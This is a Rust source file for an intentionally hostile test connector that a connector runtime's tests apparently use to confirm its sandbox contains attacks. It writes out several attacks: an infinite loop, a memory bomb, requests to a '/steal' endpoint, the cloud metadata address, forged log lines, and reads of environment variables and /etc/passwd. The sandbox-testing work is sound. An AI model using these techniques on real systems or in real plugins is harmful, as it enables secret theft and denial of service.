//! A hostile connector. The PMS property id passed to `read-units` picks the attack;
//! the runtime's tests run each one and check it ends with its classified error, and
//! that the host serves well-behaved connectors afterwards.

use epms_connector_sdk::http::Request;
use epms_connector_sdk::{
    Config, Connector, ConnectorError, ConnectorInfo, Unit, UnitPage, export_connector, field,
    secret,
};

struct Hostile {
    base_url: String,
}

fn unit(id: &str, number: String) -> Unit {
    Unit {
        id: id.to_owned(),
        number,
        building: None,
        floorplan: None,
        vacant: None,
        warnings: vec![],
    }
}

impl Connector for Hostile {
    fn info() -> ConnectorInfo {
        ConnectorInfo {
            vendor: "hostile".into(),
            display_name: "Hostile test guest".into(),
            version: "0.0.1".into(),
            config_fields: vec![
                field("base-url", "Base URL", "", false, true),
                field("password", "Password", "", true, true),
            ],
            status_vocabulary: vec![],
        }
    }

    fn new(config: Config) -> Result<Self, ConnectorError> {
        Ok(Hostile {
            base_url: config.base_url()?.to_owned(),
        })
    }

    fn read_units(
        &self,
        attack: &str,
        _cursor: Option<String>,
    ) -> Result<UnitPage, ConnectorError> {
        match attack {
            "infinite-loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![0xAB; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "panic" => panic!("hostile guest panics on purpose"),
            "forbidden-host" => {
                // Another port of the same machine: not the credential's origin.
                Request::get("http://127.0.0.1:1/steal").send()?;
                Err(ConnectorError::Protocol(
                    "the forbidden request went through".into(),
                ))
            }
            "forbidden-post" => {
                // As a connector in another language sees a refusal: one opaque
                // network error, reported as a transient failure.
                match Request::post(
                    "http://127.0.0.1:1/steal",
                    "text/plain",
                    vec![b'x'; 64 << 10],
                )
                .send()
                {
                    Ok(_) => Err(ConnectorError::Protocol(
                        "the forbidden request went through".into(),
                    )),
                    Err(_) => Err(ConnectorError::Transient("NetworkError".into())),
                }
            }
            "log-injection" => {
                // A newline in a log message, to forge a host log line of its own.
                epms_connector_sdk::log::info(
                    "all good\n2026-12-01T00:00:00.000000Z ERROR epms_api: FORGED admin token leaked",
                );
                Ok(UnitPage {
                    records: vec![],
                    next: None,
                })
            }
            "metadata" => {
                Request::get("http://169.254.169.254/latest/meta-data/").send()?;
                Err(ConnectorError::Protocol(
                    "the metadata request went through".into(),
                ))
            }
            "big-response" => {
                let resp = Request::get(format!("{}/big", self.base_url)).send()?;
                Err(ConnectorError::Protocol(format!(
                    "read {} bytes past the cap",
                    resp.body.len()
                )))
            }
            "slow" => {
                Request::get(format!("{}/slow", self.base_url)).send()?;
                Err(ConnectorError::Protocol(
                    "the slow answer came back in time".into(),
                ))
            }
            "read-secret" => {
                // Every way a guest could try to see a secret: ask a server to echo it,
                // look in the environment, look in files. Report what was seen.
                let echo = match Request::post(
                    format!("{}/echo", self.base_url),
                    "text/plain",
                    format!("password={}", secret::placeholder("password")),
                )
                .header(
                    "authorization",
                    secret::basic_auth("user", &secret::placeholder("password")),
                )
                .send()
                {
                    Ok(answer) => String::from_utf8_lossy(&answer.body).into_owned(),
                    Err(refused) => format!("refused: {refused}"),
                };
                let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                let file = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
                Ok(UnitPage {
                    records: vec![
                        unit("echo", echo),
                        unit("env", env.join(";")),
                        unit("file", file),
                    ],
                    next: None,
                })
            }
            other => Err(ConnectorError::NotFound(format!(
                "no attack named {other:?}"
            ))),
        }
    }
}

export_connector!(Hostile);
